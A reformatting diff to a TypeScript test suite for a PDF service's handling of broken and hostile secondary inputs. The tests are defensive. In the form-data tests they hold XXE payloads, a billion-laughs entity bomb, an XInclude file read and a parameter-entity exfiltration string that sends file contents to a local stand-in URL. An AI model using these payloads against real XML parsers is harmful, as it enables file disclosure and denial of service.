@@ -5,8 +5,8 @@ import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import { corpus, startApp, tool, type FormValue, type TestApp } from './helpers.js';
 import { pngOf } from './fixtures.js';
+import { corpus, type FormValue, startApp, type TestApp, tool } from './helpers.js';
 
 /**
  * Secondary inputs (form data files, credentials, ICC and JSON profiles, images, attachments, JSON fields), broken,
@@ -135,9 +135,7 @@ const XFDF = (dtd: string, value: string) =>
 const XDP = (dtd: string, value: string) =>
   `<?xml version="1.0" encoding="UTF-8"?>\n${dtd}\n<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><form1><TextField1>${value}</TextField1></form1></xfa:data></xfa:datasets></xdp:xdp>`;
 const LAUGHS =
-  '<!DOCTYPE xfdf [<!ENTITY lol "lol">' +
-  Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
-  ']>';
+  `<!DOCTYPE xfdf [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`;
 const DATA = '/pdf-with-imported-form-data';
 const data = (name: string, dataFile: FormValue, error: RegExp, extra: Partial<Case> = {}): Case => ({
   name,
@@ -147,7 +145,8 @@ const data = (name: string, dataFile: FormValue, error: RegExp, extra: Partial<C
   leak: true,
   ...extra,
 });
-const xfa = (name: string, dataFile: FormValue, error: RegExp, extra: Partial<Case> = {}) => data(name, dataFile, error, { fields: { file: XFA_FORM, data_file: dataFile }, ...extra });
+const xfa = (name: string, dataFile: FormValue, error: RegExp, extra: Partial<Case> = {}) =>
+  data(name, dataFile, error, { fields: { file: XFA_FORM, data_file: dataFile }, ...extra });
 const DOCTYPE = /data_file.*(DOCTYPE|DTD|entit)/i;
 
 test('form data: XXE, entity expansion, broken and empty files are 400 naming data_file, nothing outside is read', async () => {
@@ -157,7 +156,13 @@ test('form data: XXE, entity expansion, broken and empty files are 400 naming da
     data('XFDF, parameter entity', bytes(XFDF(`<!DOCTYPE xfdf [<!ENTITY % ext SYSTEM "${secretUrl}"> %ext;]>`, 'v'), 'pe.xfdf'), DOCTYPE),
     data(
       'XFDF, parameter entity exfiltration',
-      bytes(XFDF(`<!DOCTYPE xfdf [<!ENTITY % file SYSTEM "${secretUrl}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">%eval;%exfil;]>`, 'v'), 'oob.xfdf'),
+      bytes(
+        XFDF(
+          `<!DOCTYPE xfdf [<!ENTITY % file SYSTEM "${secretUrl}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">%eval;%exfil;]>`,
+          'v',
+        ),
+        'oob.xfdf',
+      ),
       DOCTYPE,
     ),
     data('XFDF, external DTD', bytes(XFDF(`<!DOCTYPE xfdf SYSTEM "${secretUrl}">`, 'v'), 'dtd.xfdf'), DOCTYPE),
@@ -166,10 +171,29 @@ test('form data: XXE, entity expansion, broken and empty files are 400 naming da
     xfa('XDP, external SYSTEM entity', bytes(XDP(`<!DOCTYPE xdp:xdp [<!ENTITY xxe SYSTEM "${secretUrl}">]>`, '&xxe;'), 'xxe.xdp'), DOCTYPE),
     xfa('XDP, parameter entity', bytes(XDP(`<!DOCTYPE xdp:xdp [<!ENTITY % ext SYSTEM "${secretUrl}"> %ext;]>`, 'v'), 'pe.xdp'), DOCTYPE),
     xfa('XDP, billion laughs', bytes(XDP(LAUGHS.replace('xfdf', 'xdp:xdp'), '&lol9;'), 'laughs.xdp'), DOCTYPE),
-    data('AcroForm XML, external SYSTEM entity', bytes(`<?xml version="1.0"?><!DOCTYPE fields [<!ENTITY xxe SYSTEM "${secretUrl}">]><fields><Field1>&xxe;</Field1></fields>`, 'xxe.xml'), DOCTYPE),
+    data(
+      'AcroForm XML, external SYSTEM entity',
+      bytes(`<?xml version="1.0"?><!DOCTYPE fields [<!ENTITY xxe SYSTEM "${secretUrl}">]><fields><Field1>&xxe;</Field1></fields>`, 'xxe.xml'),
+      DOCTYPE,
+    ),
     // Nobody processes XInclude; the element may be kept as data, but the file it names is never read.
-    xfa('XDP, XInclude of a local file', bytes(XDP('', `v</TextField1><TextField11><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretUrl}" parse="text"/></TextField11><TextField1>`), 'xi.xdp'), /^$/, { status: [200] }),
-    data('malformed XML', bytes('<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="Field1"><value>x</field></xfdf>', 'bad.xfdf'), /data_file.*not a valid XFDF/),
+    xfa(
+      'XDP, XInclude of a local file',
+      bytes(
+        XDP(
+          '',
+          `v</TextField1><TextField11><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${secretUrl}" parse="text"/></TextField11><TextField1>`,
+        ),
+        'xi.xdp',
+      ),
+      /^$/,
+      { status: [200] },
+    ),
+    data(
+      'malformed XML',
+      bytes('<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields><field name="Field1"><value>x</field></xfdf>', 'bad.xfdf'),
+      /data_file.*not a valid XFDF/,
+    ),
     data('not XML at all', bytes('<<<>>>', 'bad.xml'), /data_file.*not a valid/),
     data('deeply nested XML', bytes(`<fields>${'<a>'.repeat(50000)}x${'</a>'.repeat(50000)}</fields>`, 'deep.xml'), /data_file/),
     data('empty XFDF', bytes(EMPTY, 'empty.xfdf'), /data_file/),
@@ -180,7 +204,9 @@ test('form data: XXE, entity expansion, broken and empty files are 400 naming da
     data('FDF truncated in its first object', bytes(read('forms/simple-form-2-fields.fdf').subarray(0, 60), 'cut.fdf'), /data_file/),
     data('FDF header only', bytes('%FDF-1.4\n', 'header.fdf'), /data_file/),
     // XFDF names its PDF in <f href>: never opened.
-    data('XFDF naming a local file as its PDF', bytes(XFDF('', 'v').replace('<fields>', `<f href="${secretUrl}"/><fields>`), 'f.xfdf'), /data_file/, { status: [200] }),
+    data('XFDF naming a local file as its PDF', bytes(XFDF('', 'v').replace('<fields>', `<f href="${secretUrl}"/><fields>`), 'f.xfdf'), /data_file/, {
+      status: [200],
+    }),
     data('a .txt data file', bytes('Field1=x', 'data.txt'), /data_file|\.fdf/),
   ]);
 });
@@ -206,28 +232,72 @@ test('signing: broken, empty and mismatched credentials are 400 naming the crede
   await expectAll([
     sign('PFX of junk', { pfx_credential_file: bytes(junk, 'c.pfx'), pfx_passphrase_file: PASS }, /pfx_credential/),
     sign('empty PFX', { pfx_credential_file: bytes(EMPTY, 'c.pfx'), pfx_passphrase_file: PASS }, /pfx_credential/),
-    sign('truncated PFX', { pfx_credential_file: bytes(half('signing/pyhanko-selfsigned-password-exportsecret.pfx'), 'c.pfx'), pfx_passphrase_file: PASS }, /pfx_credential/),
+    sign(
+      'truncated PFX',
+      { pfx_credential_file: bytes(half('signing/pyhanko-selfsigned-password-exportsecret.pfx'), 'c.pfx'), pfx_passphrase_file: PASS },
+      /pfx_credential/,
+    ),
     sign('a PEM certificate sent as the PFX', { pfx_credential_file: CERT, pfx_passphrase_file: PASS }, /pfx_credential/),
     sign('wrong passphrase', { pfx_credential_file: PFX, pfx_passphrase_file: bytes('not-it', 'pass.txt') }, /pfx_passphrase.*wrong passphrase/),
     sign('empty passphrase file', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(EMPTY, 'pass.txt') }, /pfx_passphrase/),
     sign('binary junk passphrase', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(junk, 'pass.txt') }, /pfx_passphrase/),
     // Credentials are a few KB; a larger file is refused before anything reads it.
-    sign('a 2 MB passphrase file', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(Buffer.concat([Buffer.from('exportsecret\n'), Buffer.alloc(2 * 1024 * 1024, 'x')]), 'pass.txt') }, /pfx_passphrase_file.*larger than 1 MB/),
-    sign('a 2 MB certificate', { certificate_file: bytes(Buffer.concat([read('signing/gotenberg-localhost-selfsigned-cert.pem'), Buffer.alloc(2 * 1024 * 1024, '\n')]), 'cert.pem'), private_key_file: KEY }, /certificate_file.*larger than 1 MB/),
-    sign('a passphrase of 1,100 bytes (OpenSSL reads 1,023)', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(`${'a'.repeat(1100)}\n`, 'pass.txt') }, /pfx_passphrase.*longer than 1023 bytes/),
+    sign(
+      'a 2 MB passphrase file',
+      { pfx_credential_file: PFX, pfx_passphrase_file: bytes(Buffer.concat([Buffer.from('exportsecret\n'), Buffer.alloc(2 * 1024 * 1024, 'x')]), 'pass.txt') },
+      /pfx_passphrase_file.*larger than 1 MB/,
+    ),
+    sign(
+      'a 2 MB certificate',
+      {
+        certificate_file: bytes(Buffer.concat([read('signing/gotenberg-localhost-selfsigned-cert.pem'), Buffer.alloc(2 * 1024 * 1024, '\n')]), 'cert.pem'),
+        private_key_file: KEY,
+      },
+      /certificate_file.*larger than 1 MB/,
+    ),
+    sign(
+      'a passphrase of 1,100 bytes (OpenSSL reads 1,023)',
+      { pfx_credential_file: PFX, pfx_passphrase_file: bytes(`${'a'.repeat(1100)}\n`, 'pass.txt') },
+      /pfx_passphrase.*longer than 1023 bytes/,
+    ),
     // OpenSSL takes a passphrase as a C string: a NUL first made it read no passphrase, reported as a broken PFX.
-    sign('passphrase starting with a NUL byte', { pfx_credential_file: PFX, pfx_passphrase_file: bytes(Buffer.concat([Buffer.from([0]), junk]), 'pass.txt') }, /pfx_passphrase.*NUL/),
-    sign('passphrase on the first of several lines, after a BOM, with Windows line ends', { pfx_credential_file: PFX, pfx_passphrase_file: bytes('\uFEFFexportsecret\r\nsecond line\r\n', 'pass.txt') }, /^$/, { status: [200] }),
-    sign('certificate with a key that is not its own', { certificate_file: CERT, private_key_file: bytes(otherKeyPem, 'key.pem') }, /certificate.*does not match the private key/),
+    sign(
+      'passphrase starting with a NUL byte',
+      { pfx_credential_file: PFX, pfx_passphrase_file: bytes(Buffer.concat([Buffer.from([0]), junk]), 'pass.txt') },
+      /pfx_passphrase.*NUL/,
+    ),
+    sign(
+      'passphrase on the first of several lines, after a BOM, with Windows line ends',
+      { pfx_credential_file: PFX, pfx_passphrase_file: bytes('\uFEFFexportsecret\r\nsecond line\r\n', 'pass.txt') },
+      /^$/,
+      { status: [200] },
+    ),
+    sign(
+      'certificate with a key that is not its own',
+      { certificate_file: CERT, private_key_file: bytes(otherKeyPem, 'key.pem') },
+      /certificate.*does not match the private key/,
+    ),
     sign('key of junk', { certificate_file: CERT, private_key_file: bytes(junk, 'key.pem') }, /private_key/),
     sign('empty key', { certificate_file: CERT, private_key_file: bytes(EMPTY, 'key.pem') }, /private_key/),
-    sign('PEM key block of junk', { certificate_file: CERT, private_key_file: bytes(`-----BEGIN PRIVATE KEY-----\nAAAA${'QUJD'.repeat(20)}\n-----END PRIVATE KEY-----\n`, 'key.pem') }, /private_key/),
+    sign(
+      'PEM key block of junk',
+      { certificate_file: CERT, private_key_file: bytes(`-----BEGIN PRIVATE KEY-----\nAAAA${'QUJD'.repeat(20)}\n-----END PRIVATE KEY-----\n`, 'key.pem') },
+      /private_key/,
+    ),
     sign('a public key as the key', { certificate_file: CERT, private_key_file: bytes(publicKeyPem, 'key.pem') }, /private_key/),
     sign('encrypted key', { certificate_file: CERT, private_key_file: bytes(encryptedKeyPem, 'key.pem') }, /private_key.*encrypted/),
     sign('certificate of junk', { certificate_file: bytes(junk, 'cert.pem'), private_key_file: KEY }, /certificate/),
     sign('empty certificate', { certificate_file: bytes(EMPTY, 'cert.pem'), private_key_file: KEY }, /certificate/),
-    sign('PEM certificate block of junk', { certificate_file: bytes('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n', 'cert.pem'), private_key_file: KEY }, /certificate/),
-    sign('truncated certificate', { certificate_file: bytes(read('signing/gotenberg-localhost-selfsigned-cert.pem').subarray(0, 900), 'cert.pem'), private_key_file: KEY }, /certificate/),
+    sign(
+      'PEM certificate block of junk',
+      { certificate_file: bytes('-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n', 'cert.pem'), private_key_file: KEY },
+      /certificate/,
+    ),
+    sign(
+      'truncated certificate',
+      { certificate_file: bytes(read('signing/gotenberg-localhost-selfsigned-cert.pem').subarray(0, 900), 'cert.pem'), private_key_file: KEY },
+      /certificate/,
+    ),
     sign('a PFX as the certificate', { certificate_file: PFX, private_key_file: KEY }, /certificate/),
     sign('the key as the certificate', { certificate_file: KEY, private_key_file: KEY }, /certificate/),
   ]);
@@ -236,7 +306,8 @@ test('signing: broken, empty and mismatched credentials are 400 naming the crede
 test('signing: signature_configuration malformed or of the wrong types, and a logo that is not an image, are 400', async () => {
   const good = { pfx_credential_file: PFX, pfx_passphrase_file: PASS };
   const cfg = (name: string, value: string, error: RegExp) => sign(name, { ...good, signature_configuration: value }, error);
-  const logo = (name: string, file: FormValue, error: RegExp, status?: number[]) => sign(name, { ...good, signature_configuration: VISIBLE, logo_file: file }, error, status && { status });
+  const logo = (name: string, file: FormValue, error: RegExp, status?: number[]) =>
+    sign(name, { ...good, signature_configuration: VISIBLE, logo_file: file }, error, status && { status });
   await expectAll([
     cfg('malformed JSON', '{"type":"new",', /signature_configuration/),
     cfg('a JSON array', '[]', /signature_configuration/),
@@ -245,13 +316,33 @@ test('signing: signature_configuration malformed or of the wrong types, and a lo
     cfg('type of the wrong kind', '{"type":5}', /signature_configuration\.type/),
     cfg('type unknown', '{"type":"existing"}', /signature_configuration\.type/),
     cfg('location a string', '{"type":"new","location":"top"}', /signature_configuration\.location/),
-    cfg('location coordinates not numbers', '{"type":"new","location":{"bottom_left":{"x":"left","y":1},"top_right":{"x":2,"y":2},"page":1}}', /signature_configuration\.location/),
-    cfg('location page zero', '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":2,"y":2},"page":0}}', /signature_configuration\.location\.page/),
-    cfg('location page beyond the document', '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":2,"y":2},"page":99}}', /signature_configuration\.location\.page/),
-    cfg('location coordinates infinite', '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":1e999,"y":2},"page":1}}', /signature_configuration\.location/),
+    cfg(
+      'location coordinates not numbers',
+      '{"type":"new","location":{"bottom_left":{"x":"left","y":1},"top_right":{"x":2,"y":2},"page":1}}',
+      /signature_configuration\.location/,
+    ),
+    cfg(
+      'location page zero',
+      '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":2,"y":2},"page":0}}',
+      /signature_configuration\.location\.page/,
+    ),
+    cfg(
+      'location page beyond the document',
+      '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":2,"y":2},"page":99}}',
+      /signature_configuration\.location\.page/,
+    ),
+    cfg(
+      'location coordinates infinite',
+      '{"type":"new","location":{"bottom_left":{"x":1,"y":1},"top_right":{"x":1e999,"y":2},"page":1}}',
+      /signature_configuration\.location/,
+    ),
     cfg('logo_opacity out of range', '{"type":"new","logo_opacity":7}', /signature_configuration\.logo_opacity/),
     cfg('display not an object', '{"type":"new","display":true}', /signature_configuration\.display/),
-    cfg('display.include_datetime not a boolean', '{"type":"new","display":{"include_datetime":"sometimes"}}', /signature_configuration\.display\.include_datetime/),
+    cfg(
+      'display.include_datetime not a boolean',
+      '{"type":"new","display":{"include_datetime":"sometimes"}}',
+      /signature_configuration\.display\.include_datetime/,
+    ),
     cfg('name too long', JSON.stringify({ type: 'new', name: 'n'.repeat(501) }), /signature_configuration\.name/),
     cfg('deeply nested JSON', `{"type":"new","display":${'['.repeat(30000)}${']'.repeat(30000)}}`, /signature_configuration|nest/),
     logo('logo that is text', bytes('not an image', 'logo.png'), /logo/),
@@ -278,7 +369,11 @@ const sized = (parts: Buffer[]) => {
   return b;
 };
 /** sRGB's header with a tag table whose entries point past the end of the file. */
-const lyingTags = sized([srgb.subarray(0, 128), Buffer.from([0, 0, 0, 3]), Buffer.from('rTRC\0\0\x10\0\0\0\x10\0rXYZ\0\0\x20\0\0\0\x14\0bTRC\0\0\0\0\0\0\0\0', 'latin1')]);
+const lyingTags = sized([
+  srgb.subarray(0, 128),
+  Buffer.from([0, 0, 0, 3]),
+  Buffer.from('rTRC\0\0\x10\0\0\0\x10\0rXYZ\0\0\x20\0\0\0\x14\0bTRC\0\0\0\0\0\0\0\0', 'latin1'),
+]);
 /** sRGB's header with a tag table claiming 4096 entries. */
 const longTable = sized([srgb.subarray(0, 128), Buffer.from([0, 0, 0x10, 0])]);
 
@@ -298,7 +393,12 @@ test('ICC profiles: junk, empty, truncated and lying profiles are 400 naming the
 });
 
 const COMPRESS = '/compressed-pdf';
-const profile = (name: string, text: string | Buffer, error: RegExp): Case => ({ name, path: COMPRESS, fields: { file: PDF, compression_level: 'custom', profile: bytes(text, 'profile.json') }, error });
+const profile = (name: string, text: string | Buffer, error: RegExp): Case => ({
+  name,
+  path: COMPRESS,
+  fields: { file: PDF, compression_level: 'custom', profile: bytes(text, 'profile.json') },
+  error,
+});
 
 test('compression profiles: malformed, wrongly typed, unknown keys are 400 naming the profile or key', async () => {
   await expectAll([
@@ -325,7 +425,13 @@ test('compression profiles: malformed, wrongly typed, unknown keys are 400 namin
 // ---------------------------------------------------------------- images, watermarks, attachments
 
 const IMAGE = '/pdf-with-added-image';
-const image = (name: string, file: FormValue, error: RegExp, status?: number[]): Case => ({ name, path: IMAGE, fields: { file: PDF, image_file: file, x: '10', y: '10', page: '1' }, error, ...(status && { status }) });
+const image = (name: string, file: FormValue, error: RegExp, status?: number[]): Case => ({
+  name,
+  path: IMAGE,
+  fields: { file: PDF, image_file: file, x: '10', y: '10', page: '1' },
+  error,
+  ...(status && { status }),
+});
 const HUGE = /image.*(pixels|large|size)|pixels/i;
 
 test('images to place: junk, empty, truncated and huge images are refused quickly with a 4xx', async () => {
@@ -351,7 +457,13 @@ test('images to place: junk, empty, truncated and huge images are refused quickl
 });
 
 test('/pdf: truncated, empty and huge images are 4xx naming the file', async () => {
-  const convert = (name: string, file: FormValue, error: RegExp, status?: number[]): Case => ({ name, path: '/pdf', fields: { file }, error, ...(status && { status }) });
+  const convert = (name: string, file: FormValue, error: RegExp, status?: number[]): Case => ({
+    name,
+    path: '/pdf',
+    fields: { file },
+    error,
+    ...(status && { status }),
+  });
   await expectAll([
     convert('truncated PNG', bytes(half('images/hopper.png'), 'cut.png'), /cut\.png/),
     convert('truncated JPEG', bytes(half('images/hopper.jpg'), 'cut.jpg'), /cut\.jpg/),
@@ -369,7 +481,13 @@ test('/pdf: truncated, empty and huge images are 4xx naming the file', async () 
 });
 
 test('watermark PDFs: junk, empty and truncated files are 400; one with a password 401', async () => {
-  const wm = (name: string, file: FormValue, error: RegExp, status = [400]): Case => ({ name, path: '/watermarked-pdf', fields: { file: PDF, watermark_file: file }, error, status });
+  const wm = (name: string, file: FormValue, error: RegExp, status = [400]): Case => ({
+    name,
+    path: '/watermarked-pdf',
+    fields: { file: PDF, watermark_file: file },
+    error,
+    status,
+  });
   await expectAll([
     wm('junk', bytes(junk, 'wm.pdf'), /wm\.pdf|watermark|not valid/),
     wm('empty', bytes(EMPTY, 'wm.pdf'), /wm\.pdf|watermark/),
@@ -381,7 +499,13 @@ test('watermark PDFs: junk, empty and truncated files are 400; one with a passwo
 });
 
 test('attachments: an empty file is attached or refused with a 4xx, never a 5xx; odd names are sanitised', async () => {
-  const attach = (name: string, file: FormValue, error: RegExp, status = [200, 400]): Case => ({ name, path: '/pdf-with-added-attachment', fields: { file: PDF, file_to_attach: file }, error, status });
+  const attach = (name: string, file: FormValue, error: RegExp, status = [200, 400]): Case => ({
+    name,
+    path: '/pdf-with-added-attachment',
+    fields: { file: PDF, file_to_attach: file },
+    error,
+    status,
+  });
   await expectAll([
     attach('empty file', bytes(EMPTY, 'empty.txt'), /file_to_attach|empty/),
     attach('binary junk', bytes(junk, 'junk.bin'), /file_to_attach/),
@@ -392,7 +516,13 @@ test('attachments: an empty file is attached or refused with a 4xx, never a 5xx;
 
 test('multipart: a part header busboy cannot parse (a file name of control characters) is a 400, not a hung request', async () => {
   await expectAll([
-    { name: 'control characters in the file name', path: '/pdf-with-added-attachment', fields: { file: PDF, file_to_attach: bytes('x', '\u0001\u0002.txt') }, status: [200, 400], error: /multipart|name/ },
+    {
+      name: 'control characters in the file name',
+      path: '/pdf-with-added-attachment',
+      fields: { file: PDF, file_to_attach: bytes('x', '\u0001\u0002.txt') },
+      status: [200, 400],
+      error: /multipart|name/,
+    },
   ]);
 });
 
@@ -403,16 +533,52 @@ test('controls: the same endpoints with good secondary inputs answer 200 (the re
   const noPass = join(work, 'no-pass.p12');
   tool('openssl', ['pkcs12', '-export', '-in', CERT.file, '-inkey', KEY.file, '-out', noPass, '-passout', 'pass:']);
   const ok = (name: string, path: string, fields: Record<string, FormValue | FormValue[]>): Case => ({ name, path, fields, status: [200], error: /^$/ });
-  const images = ['hopper.jpg', 'hopper.png', 'hopper.tif', 'hopper.gif', 'hopper.webp', 'hopper.bmp', 'baiona-cmyk.jpg', 'baiona-rgba-alpha.png', 'hopper-exif-orientation-6.jpg', 'multipage-3-frames.tiff', 'g4-multipage-bilevel.tiff', 'animated-dispose-bgnd.gif'];
+  const images = [
+    'hopper.jpg',
+    'hopper.png',
+    'hopper.tif',
+    'hopper.gif',
+    'hopper.webp',
+    'hopper.bmp',
+    'baiona-cmyk.jpg',
+    'baiona-rgba-alpha.png',
+    'hopper-exif-orientation-6.jpg',
+    'multipage-3-frames.tiff',
+    'g4-multipage-bilevel.tiff',
+    'animated-dispose-bgnd.gif',
+  ];
   await expectAll([
     ok('FDF', DATA, { file: FORM, data_file: { file: corpus('forms/simple-form-2-fields.fdf') } }),
     ok('XFDF', DATA, { file: FORM, data_file: bytes(XFDF('', 'a &amp; b'), 'v.xfdf') }),
     ok('PFX', SIGN, { file: PDF, signature_configuration: '{"type":"new"}', pfx_credential_file: PFX, pfx_passphrase_file: PASS }),
-    ok('PFX with an empty passphrase', SIGN, { file: PDF, signature_configuration: '{"type":"new"}', pfx_credential_file: { file: noPass }, pfx_passphrase_file: bytes(EMPTY, 'pass.txt') }),
-    ok('PEM pair and a PNG logo', SIGN, { file: PDF, signature_configuration: VISIBLE, certificate_file: CERT, private_key_file: KEY, logo_file: { file: corpus('images/hopper.png') } }),
-    ok('BMP logo', SIGN, { file: PDF, signature_configuration: VISIBLE, certificate_file: CERT, private_key_file: KEY, logo_file: { file: corpus('images/hopper.bmp') } }),
+    ok('PFX with an empty passphrase', SIGN, {
+      file: PDF,
+      signature_configuration: '{"type":"new"}',
+      pfx_credential_file: { file: noPass },
+      pfx_passphrase_file: bytes(EMPTY, 'pass.txt'),
+    }),
+    ok('PEM pair and a PNG logo', SIGN, {
+      file: PDF,
+      signature_configuration: VISIBLE,
+      certificate_file: CERT,
+      private_key_file: KEY,
+      logo_file: { file: corpus('images/hopper.png') },
+    }),
+    ok('BMP logo', SIGN, {
+      file: PDF,
+      signature_configuration: VISIBLE,
+      certificate_file: CERT,
+      private_key_file: KEY,
+      logo_file: { file: corpus('images/hopper.bmp') },
+    }),
     ok('sRGB profile', COLORS, { file: PDF, color_profile: 'custom', profile: { file: corpus('icc/sRGB.icc') } }),
-    { ...ok('compression profile', COMPRESS, { file: { file: corpus('pdf/image-jpeg-dct.pdf') }, compression_level: 'custom', profile: bytes('{"color_image_dpi":"72","jpeg_quality":40,"grayscale":"true"}', 'p.json') }) },
+    {
+      ...ok('compression profile', COMPRESS, {
+        file: { file: corpus('pdf/image-jpeg-dct.pdf') },
+        compression_level: 'custom',
+        profile: bytes('{"color_image_dpi":"72","jpeg_quality":40,"grayscale":"true"}', 'p.json'),
+      }),
+    },
     ok('watermark PDF', '/watermarked-pdf', { file: PDF, watermark_file: PDF }),
     ...images.map((f) => ok(f, IMAGE, { file: PDF, image_file: { file: corpus(`images/${f}`) }, x: '10', y: '10', page: '1' })),
     ...images.map((f) => ok(f, '/pdf', { file: { file: corpus(`images/${f}`) } })),
@@ -440,12 +606,22 @@ test('JSON fields: malformed, wrongly typed and deeply nested values are 400 nam
     field(REDACT, 'redactions deeply nested', { redactions: deep }, /redactions|nest/),
     field(TEXT, 'text_objects malformed', { text_objects: '[{"text":"a"' }, /JSON|text_objects/),
     field(TEXT, 'text_objects of the wrong type', { text_objects: '{"text":"a"}' }, /text_objects/),
-    field(TEXT, 'text_objects wrongly typed member', { text_objects: '[{"text":"Hi","page":"first","x":"20","y":"20","font":"Helvetica","text_size":"12"}]' }, /text_objects\[0\]\.page/),
+    field(
+      TEXT,
+      'text_objects wrongly typed member',
+      { text_objects: '[{"text":"Hi","page":"first","x":"20","y":"20","font":"Helvetica","text_size":"12"}]' },
+      /text_objects\[0\]\.page/,
+    ),
     field(TEXT, 'text_objects unknown font', { text_objects: '[{"text":"Hi","page":1,"x":20,"y":20,"font":"NoSuchFont","text_size":12}]' }, /font|NoSuchFont/),
     field(TEXT, 'text_objects deeply nested', { text_objects: deep }, /text_objects|nest/),
     field(BOXES, 'boxes malformed', { boxes: '{"boxes":[' }, /JSON|boxes/),
     field(BOXES, 'boxes of the wrong type', { boxes: '{"boxes":"crop"}' }, /boxes/),
-    field(BOXES, 'boxes with an unknown box', { boxes: '[{"box":"bounding","pages":[{"range":"1","left":1,"top":1,"bottom":1,"right":1}]}]' }, /boxes\[0\]\.box/),
+    field(
+      BOXES,
+      'boxes with an unknown box',
+      { boxes: '[{"box":"bounding","pages":[{"range":"1","left":1,"top":1,"bottom":1,"right":1}]}]' },
+      /boxes\[0\]\.box/,
+    ),
     field(BOXES, 'boxes with a bad range', { boxes: '[{"box":"crop","pages":[{"range":"1-x","left":1,"top":1,"bottom":1,"right":1}]}]' }, /range|boxes/),
     field(BOXES, 'boxes deeply nested', { boxes: deep }, /boxes|nest/),
     field('/restricted-pdf', 'restrictions malformed', { new_permissions_password: 'permissions-pw', restrictions: '["print_low"' }, /restrictions/),
